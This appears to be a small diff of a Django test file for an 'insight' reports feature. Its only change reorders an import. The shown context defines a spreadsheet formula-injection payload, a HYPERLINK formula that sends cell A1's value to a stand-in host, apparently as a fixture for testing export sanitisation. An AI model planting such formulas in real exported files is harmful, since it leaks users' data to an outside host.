@@ -12,7 +12,7 @@ from django.urls import reverse
 from insight.services import insight_rebuild
 from pilots.models import Pilot
 from smartcity.models import Department, DepartmentChallenge, SocietalChallenge
-from tests.insight.conftest import make_area, make_report, local
+from tests.insight.conftest import local, make_area, make_report
 
 pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Click")'
